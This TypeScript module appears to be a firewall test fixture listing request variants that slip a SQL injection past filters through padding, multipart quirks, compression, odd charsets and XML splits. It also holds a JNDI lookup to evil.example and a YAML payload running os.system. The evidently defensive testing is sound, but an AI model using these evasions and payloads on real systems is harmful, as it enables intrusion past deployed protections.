import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync, zstdCompressSync } from "node:zlib";
import type { RequestChanges } from "./managed-request.ts";

const CRLF = "\r\n";
const FORM = "application/x-www-form-urlencoded";
const MULTIPART = "multipart/form-data; boundary=X";
const DISPOSITION = "Content-Disposition: form-data; ";

/** A known attack, encoded as in a form and plain. */
export const ATTACK = "1' UNION SELECT null,null-- ";
const ENCODED = encodeURIComponent(ATTACK);
const JNDI = "${jndi:ldap://evil.example/a}";

const post = (type: string, body: string, more: Readonly<Record<string, readonly string[]>> = {}): RequestChanges => ({
  headers: { ...(type === "" ? {} : { "content-type": [type] }), ...more },
  body,
});
const coded = (coding: string, body: Buffer): RequestChanges => post(FORM, body.toString("latin1"), { "content-encoding": [coding] });
const part = (head: string, value = ATTACK): string => `--X${CRLF}${head}${CRLF}${CRLF}${value}${CRLF}`;
const END = `--X--${CRLF}`;
const Q = part(`${DISPOSITION}name="q"`);
const multipart = (body: string, type = MULTIPART): RequestChanges => post(type, body);

const ebcdic = (text: string): string => {
  const known: Readonly<Record<string, number>> = { "=": 0x7e, " ": 0x40, "'": 0x7d, ",": 0x6b, "-": 0x60, "1": 0xf1 };
  const rows: readonly (readonly [string, number])[] = [
    ["abcdefghi", 0x81],
    ["jklmnopqr", 0x91],
    ["stuvwxyz", 0xa2],
    ["ABCDEFGHI", 0xc1],
    ["JKLMNOPQR", 0xd1],
    ["STUVWXYZ", 0xe2],
  ];
  return Array.from(text, (char) => {
    const row = rows.find(([chars]) => chars.includes(char));
    return String.fromCharCode(row === undefined ? (known[char] ?? 0x40) : row[1] + row[0].indexOf(char));
  }).join("");
};

const JAVA_OBJECT = "\xac\xed\0\x05sr\0\x11java.util.HashMap\x05\x07\xda\xc1\xc3";

/** Requests that once passed every rule, each with an attack that some program behind the edge reads. */
export const BYPASSES: readonly (readonly [name: string, request: RequestChanges])[] = [
  ["4,096 pairs before", post(FORM, `${"a&".repeat(4096)}q=${ENCODED}`)],
  ["4,096 pairs before, in the query", { query: `${"a&".repeat(4096)}q=${ENCODED}` }],
  ["1,001 parts before", multipart(part(`${DISPOSITION}name="a"`, "1").repeat(1001) + Q + END)],
  ["128 KiB before", post(FORM, `a=${"x".repeat(140_000)}&q=${ENCODED}`)],
  ["multipart declared and JSON sent", multipart(JSON.stringify({ q: ATTACK }))],
  ["multipart with LF alone", multipart(`--X\n${DISPOSITION}name="q"\n\n${ATTACK}\n--X--\n`)],
  ['filename=""', multipart(part(`${DISPOSITION}name="q"; filename=""`) + END)],
  ["a filename in the quotes of another parameter", multipart(part(`${DISPOSITION}name="q"; x="; filename=y"`) + END)],
  ["closing delimiter first", multipart(`--X--${CRLF}${Q}${END}`)],
  ["two boundaries, the first is used", multipart(Q + END, `${MULTIPART}; boundary=Y`)],
  ["two boundaries, the second is used", multipart(Q + END, "multipart/form-data; boundary=Y; boundary=X")],
  ["a part in base64", multipart(part(`${DISPOSITION}name="q"${CRLF}Content-Transfer-Encoding: base64`, btoa(ATTACK)) + END)],
  [
    "a part in quoted-printable",
    multipart(
      part(
        `${DISPOSITION}name="q"${CRLF}Content-Transfer-Encoding: quoted-printable`,
        ATTACK.replaceAll(/[A-Z]/g, (c) => `=${c.charCodeAt(0).toString(16).toUpperCase()}`),
      ) + END,
    ),
  ],
  ["gzip", coded("gzip", gzipSync(`q=${ENCODED}`))],
  ["deflate", coded("deflate", deflateSync(`q=${ENCODED}`))],
  ["deflate without its header", coded("deflate", deflateRawSync(`q=${ENCODED}`))],
  ["br", coded("br", brotliCompressSync(`q=${ENCODED}`))],
  ["zstd", coded("zstd", zstdCompressSync(`q=${ENCODED}`))],
  ["a gzip body that is cut", coded("gzip", gzipSync(`q=${ENCODED}&a=${"b".repeat(99)}`).subarray(0, -9))],
  ["a JSON name twice, the attack first", post("application/json", `{"q":${JSON.stringify(ATTACK)},"q":"ok"}`)],
  ["a JSON text that is a form", post("application/json", JSON.stringify(`a=1&q=${ENCODED}`))],
  ["XML split by CDATA", post("application/xml", `<r><q>${ATTACK.replace("UNION SEL", "UNI<![CDATA[ON SEL]]>")}</q></r>`)],
  ["XML split by a comment", post("text/xml", `<r><q>${ATTACK.replace("UNION", "UNI<!-- -->ON")}</q></r>`)],
  ["a form in ibm037", post(`${FORM}; charset=ibm037`, ebcdic(`q=${ATTACK}`))],
  ["a form in utf-7", post(`${FORM}; charset=utf-7`, `q=${ATTACK.replace("UNION", "+AFUATgBJAE8ATg-")}`)],
  ["a comment over two parameters", { query: "id=1/*&x=*/union/*&y=*/select/*&z=*/null,null" }],
  ["a comment over two parameters of a form", post(FORM, "id=1/*&x=*/union/*&y=*/select/*&z=*/null,null")],
  ["a Java object", post("application/x-java-serialized-object", JAVA_OBJECT)],
  ["a Java object of no type", post("application/octet-stream", JAVA_OBJECT)],
  ["YAML that creates objects", post("application/x-yaml", '!!python/object/apply:os.system ["id"]')],
  ["YAML that makes objects, of no type", post("application/octet-stream", 'a: !!python/object/apply:os.system ["id"]')],
  ...[
    "Accept",
    "Accept-Language",
    "Authorization",
    "Cache-Control",
    "Date",
    "If-Modified-Since",
    "If-None-Match",
    "Sec-Ch-Ua",
    "Range",
    "X-Any",
  ].map((name) => [`jndi in ${name}`, { headers: { [name]: [JNDI] } }] as const),
  ["jndi in a cookie's name", { headers: { Cookie: [`a=1; ${JNDI}=1`] } }],
  ["jndi in a cookie without a name", { headers: { Cookie: [`a=1; ${JNDI}`] } }],
  ["a cookie split at a comma", { headers: { Cookie: [`a=1,q=${ENCODED}`] } }],
  ["a cookie with octal escapes", { headers: { Cookie: [String.raw`q="1' \125NION SELECT null,null-- "`] } }],
  ["a query split at a semicolon", { query: `a=1;q=${ENCODED}` }],
  ["a byte order mark before JSON", post("application/json", `\xef\xbb\xbf${JSON.stringify({ q: ATTACK })}`)],
  ["JSON in utf-16", post("application/json", Buffer.from(JSON.stringify({ q: ATTACK }), "utf16le").toString("latin1"))],
  ["JSON with a comment", post("application/json", `{/**/"q":${JSON.stringify(ATTACK)}}`)],
];
